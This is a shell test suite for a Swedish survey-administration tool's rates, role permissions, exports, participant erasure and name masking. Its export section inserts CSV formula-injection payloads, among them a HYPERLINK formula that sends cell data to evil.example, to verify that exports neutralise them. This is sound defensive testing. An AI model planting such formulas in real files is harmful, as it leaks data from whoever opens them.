sub=$(sql "SELECT count(*) FROM response r JOIN participant p USING (participant_id) JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND w.months = $WAVE AND p.unit_id = $U1 AND p.grp = '$GRP' AND r.status = 'submitted'")
got=$(adm rates --csv --wave "$WAVE" --unit "$U1" | awk -F, -v g="$GRP" '$(NF-6) == g { print $(NF-1) }')
check "rates counts submitted responses ($sub)" [ "$got" = "$sub" ]
[ "$(adm rates --csv --masked | awk -F, 'NR > 1 && ($(NF-2) == "<5" || $(NF-3) == "<5")' | wc -l)" -gt 0 ]
check "rates --masked hides counts below 5" [ $? = 0 ]
adm rates >"$ART/rates.txt" 2>&1
grep -qE '[0-9],[0-9] %' "$ART/rates.txt" && ! grep -qE '[0-9]\.[0-9] %' "$ART/rates.txt"
check "the rates table, for people, has a Swedish decimal comma (42,5 %)" [ $? = 0 ]
adm rates --csv | awk -F, 'NR > 1 && $NF != "" { n++; if ($NF !~ /^[0-9]+\.[0-9]\r?$/) bad++ } END { exit !(n > 0 && bad == 0) }'
check "rates --csv, for machines, keeps the decimal point" [ $? = 0 ]
"$ADMIN" rates --help | grep -q "decimal point"
check "rates --help says CSV has a decimal point and the table a comma" [ $? = 0 ]

printf '%s\n' "$PW" | adm user-add "${TAG}kontakt" --role unit_contact --unit "$U1" >/dev/null 2>&1
check "user-add creates a unit contact linked to a unit" [ $? = 0 ]
out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}kontakt"); read -r _ CT _ <<<"$out"
"$PROBE" "$CDB" contact-rates "$CT" >"$ART/contact.txt"
check "a unit contact gets rates through contact_rates() as uppfolj_contact" \
	[ "$(head -n1 "$ART/contact.txt" | cut -c1-2)" = ok ]
[ "$(tail -n +2 "$ART/contact.txt" | awk -F'|' -v u="$U1" '$2 != u' | wc -l)" = 0 ] && [ "$(tail -n +2 "$ART/contact.txt" | wc -l)" -gt 0 ]
check "a unit contact sees only their own unit" [ $? = 0 ]
check "a unit contact sees small counts as <5" grep -q '<5' "$ART/contact.txt"
out=$(printf '%s\n' "$PW" | "$PROBE" "$ADB" login "${TAG}adm"); read -r _ AT _ <<<"$out"
check "contact_rates refuses a non-contact session" [ "$("$PROBE" "$CDB" contact-rates "$AT")" = EPERM ]
check "contact_rates refuses an unknown session" \
	[ "$("$PROBE" "$CDB" contact-rates "$(printf '0%.0s' {1..64})")" = EAUTH ]
cq() { psql -X -qAt -h "$UF_PGHOST" -p "$UF_PGPORT" -U uppfolj_contact -d "$UF_DB" -c "$1" 2>&1; }
[[ $(cq "SELECT count(*) FROM uppfolj.answer") == *"permission denied"* ]]
check "uppfolj_contact gets permission denied selecting answers" [ $? = 0 ]
[[ $(cq "SELECT * FROM uppfolj.response_rate") == *"permission denied"* ]]
check "uppfolj_contact gets permission denied on the rate view" [ $? = 0 ]
[[ $(cq "SELECT * FROM uppfolj.admin_session") == *"permission denied"* ]]
check "uppfolj_contact gets permission denied on sessions" [ $? = 0 ]
[[ $(cq "SELECT uppfolj.erase_participant(1, 'x')") == *"permission denied"* ]]
check "uppfolj_contact cannot erase" [ $? = 0 ]

fns=$(sql "SELECT string_agg(p.proname, ' ' ORDER BY p.proname) FROM pg_proc p WHERE p.pronamespace = 'uppfolj'::regnamespace AND has_function_privilege('uppfolj_contact', p.oid, 'EXECUTE')")
check "uppfolj_contact may execute contact_rates and contact_status only (got: $fns)" [ "$fns" = "contact_rates contact_status" ]

# --- exports ----------------------------------------------------------------
# Free-text answers that a spreadsheet would run as formulas (OWASP's CSV
# injection triggers = + - @ TAB CR, and the HYPERLINK that sends a cell
# away), one in each of seven submitted responses' text items.
sql "WITH pay(k, v) AS (VALUES (1, '=1+1'), (2, '+1+1'), (3, '-1+1'), (4, '@SUM(1+1)'),
		(5, E'\t=1+1'), (6, E'\r=1+1'),
		(7, '=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klicka\")')),
	pairs AS (SELECT r.response_id, r.instrument_id, r.version, ii.item_id,
		row_number() OVER (ORDER BY r.response_id, ii.position) AS k
		FROM response r JOIN wave w USING (wave_id)
		JOIN instrument_item ii USING (instrument_id, version)
		WHERE w.study_id = $DEMO AND r.status = 'submitted' AND ii.item_type = 'text')
	INSERT INTO answer (response_id, instrument_id, version, item_id, value_text)
	SELECT p.response_id, p.instrument_id, p.version, p.item_id, pay.v FROM pairs p JOIN pay USING (k)
	ON CONFLICT (response_id, item_id) DO UPDATE SET value_text = excluded.value_text,
		dont_know = false" >/dev/null
# Prints what is wrong with CSV file $1 (nothing when right): each payload
# must be there with a leading ' and never bare, and no cell may start with
# a trigger unless it is a plain number the program wrote.
formula_problems() {
	python3 - "$1" <<'PY'
import csv, re, sys
cells = [c for row in csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True) for c in row]
pays = ["=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1",
	'=HYPERLINK("http://evil.example/?d="&A1,"Klicka")']
have = set(cells)
for p in pays:
	if "'" + p not in have: print("missing with ': %r" % p)
	if p in have: print("bare: %r" % p)
for c in cells:
	if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?[0-9]+([.,][0-9]+)?", c):
		print("formula cell: %r" % c[:40])
PY
}
XCHECK="python3 ${UF_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/manage/export_check.py"
FORMS=${UF_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}/forms
# The demo study's submitted answers, for export_check.py's references.
sql "COPY (SELECT p.panel_id, w.months, r.instrument_id, a.item_id, a.dont_know, a.declined,
	a.value_int, a.value_text, array_to_string(a.value_choices, ';') AS value_choices, a.value_date
	FROM answer a JOIN response r USING (response_id) JOIN participant p USING (participant_id)
	JOIN wave w ON w.wave_id = r.wave_id WHERE p.study_id = $DEMO AND r.status = 'submitted')
	TO STDOUT WITH CSV HEADER" >"$ART/answers.csv"
adm export --format long -o "$ART/long.csv" >/dev/null 2>&1; st_l=$?
adm export --format wide -o "$ART/wide.csv" >/dev/null 2>&1; st_w=$?
adm export --format codebook -o "$ART/codebook.csv" >/dev/null 2>&1; st_c=$?
check "export long, wide and codebook succeed" [ $st_l$st_w$st_c = 000 ]
for f in long wide codebook sav dta r; do
	adm export --format $f --free-text -o "$ART/ft.$f" >/dev/null 2>&1 || echo "$f" >>"$ART/ft.failed"
done
check "export long, wide, codebook, sav, dta and r with --free-text succeed" [ ! -e "$ART/ft.failed" ]
adm export --format wide --free-text --dialect excel-sv -o "$ART/ft-sv.wide" >/dev/null 2>&1
check "export --dialect excel-sv succeeds" [ $? = 0 ]
nontext="JOIN instrument_item ii ON ii.instrument_id = a.instrument_id AND ii.version = a.version AND ii.item_id = a.item_id"
want_l=$(sql "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN wave w USING (wave_id) $nontext WHERE w.study_id = $DEMO AND r.status = 'submitted' AND ii.item_type <> 'text'")
want_lt=$(sql "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND r.status = 'submitted'")
want_w=$(sql "SELECT count(*) FROM response r JOIN wave w USING (wave_id) WHERE w.study_id = $DEMO AND r.status = 'submitted'")
# Records, not lines: free text may hold newlines inside quotes.
records() {
	python3 -c 'import csv,sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8"), strict=True))
if len({len(r) for r in rows}) != 1: sys.exit("ragged rows")
print(len(rows) - 1)' "$1"
}
check "long export has one row per answer, free text left out ($want_l)" [ "$(records "$ART/long.csv")" = "$want_l" ]
check "long export with --free-text has one row per answer ($want_lt)" [ "$(records "$ART/ft.long")" = "$want_lt" ]
check "wide export has one row per submitted response ($want_w)" [ "$(records "$ART/wide.csv")" = "$want_w" ]
want_c=$(head -n 1 "$ART/wide.csv" | tr ',' '\n' | wc -l)
check "codebook has one row per wide column ($want_c)" [ "$(records "$ART/codebook.csv")" = "$want_c" ]
check "the long header is what R and pandas will name the columns" \
	[ "$(head -n1 "$ART/long.csv" | tr -d '\r')" = "panel_id,group,unit,unit_kind,wave,wave_opens,wave_closes,instrument,version,submitted_at,lang,easy,item,value,value_label" ]
[ "$(head -c3 "$ART/long.csv" | od -An -tx1 | tr -d ' ')" != efbbbf ] && head -n1 "$ART/long.csv" | grep -q $'\r$'
check "rfc4180 CSV lines end in CRLF and the file has no BOM" [ $? = 0 ]
out=$($XCHECK wide "$FORMS" "$ART/answers.csv" "$ART/wide.csv" 2>&1)
check "wide CSV: every cell equals the database's answer coded as the codebook says (likert, option position, 0/1 per option, -1/-2/-9)" [ $? = 0 ]
echo "$out" | head -n 12 | note
out=$($XCHECK wide "$FORMS" "$ART/answers.csv" "$ART/ft.wide" --free-text 2>&1)
check "wide CSV with --free-text: the same, and the free text columns hold the texts (formula-guarded)" [ $? = 0 ]
echo "$out" | head -n 12 | note
out=$($XCHECK excel-sv "$ART/ft.wide" "$ART/ft-sv.wide" 2>&1)
check "excel-sv: UTF-8 BOM, CRLF, ';' parsed by Python's csv module, the same cells as rfc4180 (decimal comma)" [ $? = 0 ]
echo "$out" | head -n 12 | note
for f in sav dta; do
	extract_metadata "$ART/ft.$f" "$ART/ft.$f.json" >/dev/null 2>&1 &&
		readstat "$ART/ft.$f" - >"$ART/ft.$f.csv" 2>/dev/null
	out=$($XCHECK native "$FORMS" "$ART/ft.wide" "$ART/ft.$f" "$ART/ft.$f.json" "$ART/ft.$f.csv" 2>&1)
	check ".$f read back with readstat: names, variable labels (question text, cut to the format's limit), value labels, missing values and every value as in the wide CSV" [ $? = 0 ]
	echo "$out" | head -n 12 | note
done
out=$($XCHECK rscript "$ART/ft.r" "$ART/ft.wide" 2>&1)
check "R script: strings and brackets close, a uf_kolumn() per column (R not installed: syntax only)" [ $? = 0 ]
echo "$out" | head -n 12 | note
dk=$(sql "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN wave w USING (wave_id) $nontext WHERE w.study_id = $DEMO AND r.status = 'submitted' AND a.dont_know AND ii.item_type <> 'text'")
check "dont_know is exported as -1 with its label in the long form ($dk)" [ "$dk" -gt 0 -a "$(grep -c ',-1,Vet ej / ej aktuellt'$'\r''$' "$ART/long.csv")" = "$dk" ]
dc=$(sql "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN wave w USING (wave_id) $nontext WHERE w.study_id = $DEMO AND r.status = 'submitted' AND a.declined AND ii.item_type <> 'text'")
check "declined (\"Vill inte svara\") is exported as -2 with its label ($dc)" \
	[ "$dc" -gt 0 -a "$(grep -c ',-2,Vill inte svara'$'\r''$' "$ART/long.csv")" = "$dc" ]
check "the codebook gives the missing codes -1, -2, -9 for a patient question" \
	grep -q '^pat_trygg,.*,-1,-2,-9,' "$ART/codebook.csv"
# Free text: absent without --free-text, and each export with it audited.
adm export --format sav -o "$ART/nf.sav" >/dev/null 2>&1 && readstat "$ART/nf.sav" - >"$ART/nf.sav.csv" 2>/dev/null
adm export --format dta -o "$ART/nf.dta" >/dev/null 2>&1 && readstat "$ART/nf.dta" - >"$ART/nf.dta.csv" 2>/dev/null
for f in long.csv wide.csv nf.sav.csv nf.dta.csv codebook.csv; do
	! grep -q 'HYPERLINK\|SUM(1+1)' "$ART/$f"
	check "$f: no free text without --free-text" [ $? = 0 ]
done
tcols=$(sql "SELECT count(*) FROM instrument_item WHERE item_type = 'text' AND item_id = ANY(string_to_array('$(head -n1 "$ART/wide.csv" | tr -d '\r')', ','))")
check "wide export without --free-text has no text-item column" [ "$tcols" = 0 ]
for f in long wide sav dta; do
	check "export.$f with --free-text is in the audit log as free_text" \
		[ "$(sql "SELECT count(*) FROM audit_log WHERE action = 'export.$f' AND (detail->>'free_text')::boolean")" -ge 1 ]
done
check "an export without free text is audited as free_text false" \
	[ "$(sql "SELECT detail->>'free_text' FROM audit_log WHERE action = 'export.dta' ORDER BY audit_id DESC LIMIT 1")" = false ]
# Formula answers in every format they reach (free text: with --free-text).
readstat "$ART/ft.sav" - >"$ART/ft.sav.values" 2>/dev/null
readstat "$ART/ft.dta" - >"$ART/ft.dta.values" 2>/dev/null
python3 - "$ART/ft-sv.wide" >"$ART/ft-sv.comma.csv" <<'PY'
import csv, sys
w = csv.writer(sys.stdout)
for r in csv.reader(open(sys.argv[1], newline="", encoding="utf-8-sig"), delimiter=";"):
	w.writerow(r)
PY
for f in ft.long ft.wide ft-sv.comma.csv ft.sav.values ft.dta.values; do
	bad=$(formula_problems "$ART/$f" 2>&1)
	check "$f: every formula answer (= + - @ tab CR, HYPERLINK) has a leading ' and none is bare" [ -z "$bad" ]
	[ -z "$bad" ] || echo "$bad" | head -n 10 | note
done
grep -q "starts with = + - @ tab or CR is exported with ' in front" "$ART/ft.codebook"
check "the codebook states the formula rule for free-text items" [ $? = 0 ]
check "every export is in the audit log with its row count" \
	[ "$(sql "SELECT detail->>'rows' FROM audit_log WHERE action = 'export.long' AND NOT (detail->>'free_text')::boolean ORDER BY audit_id DESC LIMIT 1")" = "$want_l" ]
# Language and variant shown (migration 0021): the demo answers some patients
# in English and Arabic (admin/demo_lang.c); one more Swedish patient
# response is marked as answered in Arabic, easy-to-read. Every format
# carries exactly the database's non-Swedish rows, the codebook says what
# the columns are. Restored afterwards (other suites share the demo).
LRESP=$(sql "SELECT min(r.response_id) FROM response r JOIN participant p USING (participant_id) WHERE p.study_id = $DEMO AND p.grp = 'patient' AND r.status = 'submitted' AND r.lang = 'sv' AND NOT r.easy")
LPANEL=$(sql "SELECT p.panel_id || '|' || w.months FROM response r JOIN participant p USING (participant_id) JOIN wave w ON w.wave_id = r.wave_id WHERE r.response_id = $LRESP")
sql "UPDATE response SET lang = 'ar', easy = true WHERE response_id = $LRESP" >/dev/null
LWANT=$(sql "SELECT string_agg(x, ';' ORDER BY x COLLATE \"C\") FROM (SELECT DISTINCT p.panel_id || '|' || w.months || ' ' || r.lang || ',' || r.easy::int AS x FROM response r JOIN participant p USING (participant_id) JOIN wave w ON w.wave_id = r.wave_id WHERE p.study_id = $DEMO AND p.grp = 'patient' AND r.status = 'submitted' AND NOT r.test AND r.lang <> 'sv') y")
adm export --format wide --group patient -o "$ART/lang.wide" >/dev/null 2>&1
adm export --format long --group patient -o "$ART/lang.long" >/dev/null 2>&1
adm export --format sav --group patient -o "$ART/lang.sav" >/dev/null 2>&1 && readstat "$ART/lang.sav" - >"$ART/lang.sav.csv" 2>/dev/null
adm export --format dta --group patient -o "$ART/lang.dta" >/dev/null 2>&1 && readstat "$ART/lang.dta" - >"$ART/lang.dta.csv" 2>/dev/null
adm export --format codebook --group patient -o "$ART/lang.codebook" >/dev/null 2>&1
sql "UPDATE response SET lang = 'sv', easy = false WHERE response_id = $LRESP" >/dev/null
# lang_of FILE: "panel|wave -> lang,easy" of every row whose lang is not sv.
lang_of() {
	python3 - "$1" <<'PY'
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8")))
seen = sorted({"%s|%s %s,%s" % (r["panel_id"], int(float(r["wave"])), r["lang"], int(float(r["easy"])))
               for r in rows if r["lang"] != "sv"})
bad = [r for r in rows if r["lang"] == "" or r["easy"] not in ("0", "1", "0.0", "1.0", "0.000000", "1.000000")]
print(";".join(seen) + (" BAD" if bad else ""))
PY
}
for f in lang.wide lang.long lang.sav.csv lang.dta.csv; do
	check "$f: the language and variant shown, per response (the database's non-Swedish rows, $LPANEL ar,1 among them)" \
		[ "$(lang_of "$ART/$f")" = "$LWANT" ] && [[ ";$LWANT;" == *";$LPANEL ar,1;"* ]]
done
check "the codebook describes lang and easy" \
	[ "$(grep -c '^lang,,,,,,"Språk som visades (språkkod, sv = svenska)",text,\|^easy,,,,,,"Lättläst text visades (1 = ja, 0 = nej)",number,' "$ART/lang.codebook")" = 2 ]
# Filters: each row is of the chosen wave / group / unit kind, and as many
# as the database has.
adm export --format wide --wave "$PREV" --group patient -o "$ART/f1.csv" >/dev/null 2>&1
want=$(sql "SELECT count(*) FROM response r JOIN wave w USING (wave_id) JOIN participant p USING (participant_id) WHERE w.study_id = $DEMO AND r.status = 'submitted' AND w.months = $PREV AND p.grp = 'patient'")
check "--wave $PREV --group patient: $want rows, each of that wave and group" [ "$want" -gt 0 -a "$(records "$ART/f1.csv")" = "$want" -a \
	"$(tail -n +2 "$ART/f1.csv" | python3 -c 'import csv,sys; print(set((r[1], r[4]) for r in csv.reader(sys.stdin)))')" = "{('patient', '$PREV')}" ]
check "--group patient: only the patient questionnaire's columns" [ -z "$(head -n1 "$ART/f1.csv" | tr ',' '\n' | grep -E '^(chef|pers|peer)_')" ]
adm export --format long --unit-kind heldygnsvard -o "$ART/f2.csv" >/dev/null 2>&1
want=$(sql "SELECT count(*) FROM answer a JOIN response r USING (response_id) JOIN participant p USING (participant_id) JOIN unit u ON u.unit_id = p.unit_id $nontext WHERE p.study_id = $DEMO AND r.status = 'submitted' AND u.kind = 'heldygnsvard' AND ii.item_type <> 'text'")
check "--unit-kind heldygnsvard: $want rows, each of that kind" [ "$want" -gt 0 -a "$(records "$ART/f2.csv")" = "$want" -a \
	"$(tail -n +2 "$ART/f2.csv" | python3 -c 'import csv,sys; print(set(r[3] for r in csv.reader(sys.stdin)))')" = "{'heldygnsvard'}" ]
check "the audit row names the filters" \
	[ "$(sql "SELECT detail->>'wave' || '/' || (detail->>'group') FROM audit_log WHERE action = 'export.wide' ORDER BY audit_id DESC LIMIT 1")" = "$PREV/patient" ]
# Rejected options and filter values: usage errors (2) before any output,
# a wave the study does not have (1) with a message; no file either way.
for args in "--format xlsx" "--format wide --dialect excel" "--format wide --group anhorig" \
	"--format wide --unit-kind sjukhus" "--format wide --wave 0" "--format wide --wave 12a" \
	"--format wide --wave 121" "--format wide --free-text=ja"; do
	rm -f "$ART/rej.csv"
	# shellcheck disable=SC2086
	adm export $args -o "$ART/rej.csv" >/dev/null 2>"$ART/rej.err"
	check "export $args is refused as a usage error (exit 2), no file" [ $? = 2 -a ! -e "$ART/rej.csv" ]
done
rm -f "$ART/rej.csv"
adm export --format wide --wave 99 -o "$ART/rej.csv" >/dev/null 2>"$ART/rej.err"; st=$?
check "export --wave 99 (no such wave) fails with a message, no file" \
	[ $st = 1 -a ! -e "$ART/rej.csv" -a -n "$(grep 'ingen omgång vid 99' "$ART/rej.err")" ]

# --- access request and erasure -------------------------------------------
P=$(sql "SELECT p.panel_id FROM participant p JOIN response r USING (participant_id) WHERE p.study_id = $DEMO AND r.status = 'submitted' GROUP BY p.panel_id HAVING count(DISTINCT r.wave_id) >= 2 ORDER BY p.panel_id LIMIT 1")
PID=$(sql "SELECT participant_id FROM participant WHERE panel_id = '$P'")
# One of the participant's answers becomes a long text without spaces that
# starts on an odd byte: the PDF must wrap it on whole characters.
sql "INSERT INTO answer (response_id, instrument_id, version, item_id, value_text)
	SELECT r.response_id, r.instrument_id, r.version, ii.item_id, 'x' || repeat('ä', 3000)
	FROM response r JOIN instrument_item ii USING (instrument_id, version)
	WHERE r.participant_id = $PID AND r.status = 'submitted' AND ii.item_type = 'text'
	ORDER BY r.response_id, ii.position LIMIT 1
	ON CONFLICT (response_id, item_id) DO UPDATE SET value_text = excluded.value_text,
		dont_know = false" >/dev/null
# Their latest response becomes a draft again, its answers in the draft
# value (0025): the access request lists those too, and erasure takes them.
sql "WITH d AS (SELECT r.response_id FROM response r JOIN wave w USING (wave_id)
		WHERE r.participant_id = $PID AND NOT EXISTS (SELECT 1 FROM answer a
			WHERE a.response_id = r.response_id AND a.value_text LIKE 'xä%')
		ORDER BY w.months DESC LIMIT 1),
	gone AS (DELETE FROM answer a USING d WHERE a.response_id = d.response_id)
	UPDATE response r SET status = 'draft', submitted_at = NULL,
		draft = (SELECT jsonb_object_agg(ii.item_id, '{\"d\": true}'::jsonb) FROM instrument_item ii
			WHERE ii.instrument_id = r.instrument_id AND ii.version = r.version AND ii.position < 2)
	FROM d WHERE r.response_id = d.response_id" >/dev/null
check "one response of the participant is a draft with two answers" \
	[ "$(sql "SELECT count(*) FILTER (WHERE status = 'draft'), sum(jsonb_array_length(jsonb_path_query_array(draft, '\$.*'))) FROM response WHERE participant_id = $PID")" = "1|2" ]
adm access-export --panel-id "$P" -o "$ART/access.json" >/dev/null 2>&1
if command -v python3 >/dev/null; then
	check "access-export gives the participant's answers in every wave as JSON" \
		python3 -c 'import json,sys; d = json.load(open(sys.argv[1])); assert d["panel_id"] == sys.argv[2]; assert len(d["waves"]) >= 2; assert all(w["answers"] for w in d["waves"] if w["status"] == "submitted")' "$ART/access.json" "$P"
	check "access-export lists the draft's answers" \
		python3 -c 'import json,sys; d = json.load(open(sys.argv[1])); w = [w for w in d["waves"] if w["status"] == "draft"]; assert len(w) == 1 and len(w[0]["answers"]) == 2, w' "$ART/access.json"
fi
adm access-export --panel-id "$P" --format pdf -o "$ART/access.pdf" >/dev/null 2>&1
check "access-export --format pdf writes a PDF" [ $? = 0 -a "$(head -c5 "$ART/access.pdf")" = "%PDF-" ]
if command -v python3 >/dev/null && pdftotext -layout "$ART/access.pdf" "$ART/access.txt" 2>/dev/null; then
	# Page footers out, lines joined: every wave, question and answer of
	# the JSON form is in the PDF's text.
	check "the PDF holds every wave, question and answer the JSON holds" python3 -c '
import json, re, sys
d = json.load(open(sys.argv[1]))
lines = [l for l in open(sys.argv[2], encoding="utf-8").read().split("\n")
	if not re.search(r"Registerutdrag för deltagare .* sida \d+", l)]
text = re.sub(r"\s+", " ", " ".join(lines))
norm = lambda s: re.sub(r"\s+", " ", s).strip()
bare = re.sub(r"\s+", "", text)
assert "Deltagare: " + d["panel_id"] in text
n = long = 0
for w in d["waves"]:
	assert "Omgång %d månader" % w["months"] in text, w["months"]
	for a in w["answers"]:
		assert norm(a["question"]) in text, a["question"]
		# wrapped lines may split a long word: compare without spaces
		assert re.sub(r"\s+", "", a["answer"]) in bare, a["answer"][:80]
		long += a["answer"] == "x" + "ä" * 3000
		n += 1
assert n > 5 and long == 1, (n, long)
' "$ART/access.json" "$ART/access.txt"
fi
adm access-export --panel-id "$P" --format html -o "$ART/access.html" >/dev/null 2>&1
check "access-export refuses an unknown --format (exit 2)" [ $? = 2 ]
RIDS=$(sql "SELECT string_agg(response_id::text, ',') FROM response WHERE participant_id = $PID")
adm erase --panel-id "$P" >"$ART/erase.log" 2>&1
check "erase --panel-id succeeds" [ $? = 0 ]
# Every table with a foreign key to participant, found from the catalogue,
# so a table added later is checked too.
left=0
while IFS='|' read -r tbl col; do
	k=$(sql "SELECT count(*) FROM $tbl WHERE $col = $PID")
	[ "$k" = 0 ] || { left=$((left + k)); echo "# $tbl still has $k rows"; }
done < <(sql "SELECT c.conrelid::regclass, a.attname FROM pg_constraint c JOIN pg_attribute a ON a.attrelid = c.conrelid AND a.attnum = c.conkey[1] WHERE c.contype = 'f' AND c.confrelid = 'uppfolj.participant'::regclass")
check "no row references the erased participant in any table" [ $left = 0 ]
check "the erased participant's answers are gone" [ "$(sql "SELECT count(*) FROM answer WHERE response_id IN ($RIDS)")" = 0 ]
check "the erased participant's draft is gone with its response" [ "$(sql "SELECT count(*) FROM response WHERE response_id IN ($RIDS)")" = 0 ]
check "the participant row itself is gone" [ "$(sql "SELECT count(*) FROM participant WHERE panel_id = '$P'")" = 0 ]
a=$(sql "SELECT actor || '|' || coalesce(object, '') || '|' || coalesce(detail::text, '') FROM audit_log WHERE action = 'participant.erase' ORDER BY audit_id DESC LIMIT 1")
[[ $a == cli:*'||' ]]
check "the audit row says who erased, and nothing of the content" [ $? = 0 ]
check "the panel id is nowhere in the audit log" [ "$(sql "SELECT count(*) FROM audit_log WHERE audit_log::text LIKE '%$P%'")" = 0 ]
adm export --format long -o "$ART/long2.csv" >/dev/null 2>&1
! grep -q "^$P," "$ART/long2.csv"
check "the next export no longer contains the participant" [ $? = 0 ]
adm erase --panel-id "$P" >/dev/null 2>&1
check "erasing again says not found" [ $? = 1 ]

# Erase by a code from the sheet, with a live respondent session of the
# collect program on it (its table references the participant).
c1=${CODES[1]}
CPID=$(sql "SELECT participant_id FROM access_code WHERE code_hash = '\\x$(python3 -c 'import hashlib,sys; k = bytes.fromhex(open(sys.argv[1]).read().strip()); print(hashlib.blake2b(sys.argv[2].encode(), key=k, digest_size=32).hexdigest())' "$UF_SECRET" "${c1//-/}" 2>/dev/null)'::bytea" 2>/dev/null)
if [ -n "$CPID" ]; then
	sql "INSERT INTO collect_session (token_hash, code_id, participant_id, wave_id, csrf, expires_at) SELECT sha256('probe$$'::bytea), code_id, participant_id, wave_id, repeat('a', 64), now() + interval '1 hour' FROM access_code WHERE participant_id = $CPID" >/dev/null
fi
printf '%s\n' "${c1,,}" | adm erase --secret "$UF_SECRET" --code - >/dev/null 2>&1
check "erase --code (typed in lower case, from stdin) succeeds" [ $? = 0 ]
[ -n "$CPID" ] && [ "$(sql "SELECT (SELECT count(*) FROM participant WHERE participant_id = $CPID) + (SELECT count(*) FROM access_code WHERE participant_id = $CPID) + (SELECT count(*) FROM collect_session WHERE participant_id = $CPID)")" = 0 ]
check "the code's participant, codes and respondent sessions are gone" [ $? = 0 ]

# --- names the reports mask in quotes ------------------------------------------
MN="mask$$"
"$ADMIN" mask-names --db "$ADB" --study demo add "Kalle $MN" >"$ART/mask.log" 2>&1
check "mask-names add stores a name (kind namn by default)" \
	[ "$(sql "SELECT kind FROM study_mask_name WHERE study_id = $DEMO AND name = 'Kalle $MN'")" = namn ]
"$ADMIN" mask-names --db "$ADB" --study demo add --kind ort "Kalle $MN" >>"$ART/mask.log" 2>&1
check "adding it again changes its kind" \
	[ "$(sql "SELECT kind FROM study_mask_name WHERE study_id = $DEMO AND name = 'Kalle $MN'")" = ort ]
"$ADMIN" mask-names --db "$ADB" --study demo list >"$ART/mask-list.log" 2>&1
check "mask-names list prints name and kind" grep -qP "^Kalle $MN\tort$" "$ART/mask-list.log"
check "the audit rows name the study, never the name" \
	[ "$(sql "SELECT count(*) FILTER (WHERE action = 'mask.add' AND object = 'study:' || $DEMO) >= 2
		AND count(*) FILTER (WHERE coalesce(object, '') || coalesce(detail::text, '') LIKE '%$MN%') = 0
		FROM audit_log")" = t ]
"$ADMIN" mask-names --db "$ADB" --study demo add --kind person "Xy" >/dev/null 2>"$ART/mask-err.log"
[ $? = 1 ] && grep -q "verksamhet, ort eller namn" "$ART/mask-err.log"
check "mask-names refuses an unknown kind with a Swedish message" [ $? = 0 ]
"$ADMIN" mask-names --db "$ADB" --study demo add "X" >/dev/null 2>"$ART/mask-err.log"
[ $? = 1 ] && grep -q "2–100 tecken" "$ART/mask-err.log"
check "mask-names refuses a one-letter name" [ $? = 0 ]
"$ADMIN" mask-names --db "$ADB" --study demo add "$(printf 'Ab\tc')" >/dev/null 2>&1
check "mask-names refuses control characters" [ $? = 1 ]
"$ADMIN" mask-names --db "$ADB" --study demo add "$(head -c 101 /dev/zero | tr '\0' a)" >/dev/null 2>&1
check "mask-names refuses a name over 100 characters" [ $? = 1 ]
"$ADMIN" mask-names --db "$ADB" --study demo add >/dev/null 2>&1
check "mask-names add without a name is a usage error" [ $? = 2 ]
"$ADMIN" mask-names --db "$ADB" --study demo rename x >/dev/null 2>&1
check "an unknown action is a usage error" [ $? = 2 ]
"$ADMIN" mask-names --db "$ADB" --study demo remove "Kalle $MN" >/dev/null 2>&1
[ $? = 0 ] && [ "$(sql "SELECT count(*) FROM study_mask_name WHERE name = 'Kalle $MN'")" = 0 ]
check "mask-names remove deletes it" [ $? = 0 ]
"$ADMIN" mask-names --db "$ADB" --study demo remove "Kalle $MN" >/dev/null 2>"$ART/mask-err.log"
[ $? = 1 ] && grep -q "inget sådant namn" "$ART/mask-err.log"
check "removing an unlisted name is refused" [ $? = 0 ]
psql -X -qAt -h "$UF_PGHOST" -p "$UF_PGPORT" -U uppfolj_report -d "$UF_DB" \
	-c "INSERT INTO uppfolj.study_mask_name (study_id, name, kind) SELECT study_id, 'Zz', 'namn' FROM uppfolj.study LIMIT 1" \
	>/dev/null 2>&1
check "the report role cannot add names to mask" [ $? != 0 ]

# --- evaluator tooling (issue 14) ----------------------------------------
# Rates agree with the data: the demo's earlier waves have consents and
# responses but no codes (answers kept from before codes were printed, like
# kiosk answers), and the rate view counted only codes, so the 24-month
# wave said "no codes issued" while the export held its answers. Reference:
# the wide export (one row per submitted response) counted per wave and
# group by Python's csv module, against the sums of rates --csv.
adm export --format wide -o "$ART/ev-wide.csv" >/dev/null 2>&1
adm rates --csv >"$ART/ev-rates.csv" 2>&1
python3 - "$ART/ev-wide.csv" "$ART/ev-rates.csv" >"$ART/ev-rates-cmp.txt" 2>&1 <<'PY'
import csv, sys, collections
wide = list(csv.DictReader(open(sys.argv[1], newline="", encoding="utf-8-sig")))
want = collections.Counter((r["wave"], r["group"]) for r in wide)
got = collections.Counter()
for r in csv.reader(open(sys.argv[2], newline="", encoding="utf-8")):
    if len(r) < 7 or not r[0].isdigit(): continue
    # months,unit_id,label...,group,invited,started,consented,declined,submitted,rate
    got[(r[0], r[-7])] += int(r[-2])
bad = {k: (want[k], got[k]) for k in set(want) | set(got) if want[k] != got[k]}
print("pairs", len(want), "bad", bad)
sys.exit(1 if bad or not want else 0)
PY
rc=$?
check "rates: submitted per wave and group equal the wide export's rows ($(head -c 200 "$ART/ev-rates-cmp.txt"))" [ $rc = 0 ]
n24=$(sql "SELECT count(*) FROM response r JOIN wave w USING (wave_id) JOIN participant p USING (participant_id) WHERE w.study_id = $DEMO AND w.months = 24 AND p.grp = 'patient' AND r.status = 'submitted'")
g24=$(awk -F, '$1 == 24 && $(NF-6) == "patient" { s += $(NF-1) } END { print s + 0 }' "$ART/ev-rates.csv")
[ "${n24:-0}" -gt 0 ] && [ "$g24" = "$n24" ]
